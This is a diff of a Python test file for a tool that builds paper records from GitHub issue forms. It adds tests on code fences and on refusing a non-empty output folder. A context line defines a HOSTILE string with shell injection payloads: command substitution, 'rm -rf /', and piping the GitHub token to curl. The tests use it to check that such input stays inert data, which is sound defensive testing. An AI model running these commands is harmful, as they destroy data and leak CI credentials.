@@ -158,7 +158,7 @@ def test_an_identifier_semantic_scholar_does_not_know_is_a_problem(project: Proj
 HOSTILE = '$(touch /tmp/pwned) `id` ; rm -rf / && echo ${{ github.token }} | curl -d @- x "quoted" \'single\' #x'
 
 
-def test_shell_metacharacters_and_expressions_are_data_kept_verbatim(project: Project, tmp_path: Path) -> None:
+def test_shell_metacharacters_and_expressions_are_data_kept_verbatim(project: Project) -> None:
     summary = "Learns audio-visual features. " + HOSTILE
     outcome = run(project, body(summary=summary, short_name="${{ github.token }}"))
     assert outcome.ready, outcome.problems
@@ -210,6 +210,7 @@ def test_a_one_megabyte_body_is_refused_at_once(project: Project) -> None:
     ({"bibtex": "```bibtex\n" + IMAGEBIND_BIB + "\n" + IMAGEBIND_BIB.replace("girdhar2023imagebind", "b") + "\n```"},
      ["form-bibtex-entries"]),
     ({"summary": "Real summary.\n\n### Objective\n\nclustering"}, ["form-field-twice"]),
+    ({"identifier": "```", "bibtex": ""}, ["form-bad-identifier"]),  # a fence outside the BibTeX hides no field
 ])
 def test_missing_and_malformed_fields_are_problems_naming_the_field(project: Project, fields: dict[str, str],
                                                                     codes: list[str]) -> None:
@@ -217,6 +218,13 @@ def test_missing_and_malformed_fields_are_problems_naming_the_field(project: Pro
     assert [p.code for p in outcome.problems] == codes
     assert outcome.record is None and papers(project) == ["clip.yaml"]
     assert all(p.path == "issue form" for p in outcome.problems)
+
+
+def test_an_unclosed_fence_outside_the_bibtex_field_hides_no_field(project: Project) -> None:
+    outcome = run(project, body(short_name="~~~~", objective="```\ncontrastive"))
+    assert outcome.ready, outcome.problems
+    data = yaml.safe_load(outcome.record.text if outcome.record else "")
+    assert (data["short_name"], data["tags"]["objective"], data["summary"]) == (["~~~~"], ["contrastive"], SUMMARY)
 
 
 def test_a_body_that_is_not_the_form(project: Project) -> None:
@@ -290,3 +298,11 @@ def test_main_without_an_issue_in_the_event_is_a_usage_error(project: Project, t
     event = tmp_path / "event.json"
     event.write_text(json.dumps({"pull_request": {}}), encoding="utf-8")
     assert main(["--event", str(event), "--out", str(tmp_path / "out"), "--root", str(project.root)]) == 2
+
+
+def test_main_never_writes_into_a_folder_that_holds_something(project: Project, tmp_path: Path) -> None:
+    out = tmp_path / "out"
+    out.mkdir()
+    (out / "keep.txt").write_text("mine", encoding="utf-8")
+    assert main(["--event", str(_event(tmp_path, body())), "--out", str(out), "--root", str(project.root)]) == 2
+    assert [p.name for p in out.iterdir()] == ["keep.txt"] and papers(project) == ["clip.yaml"]
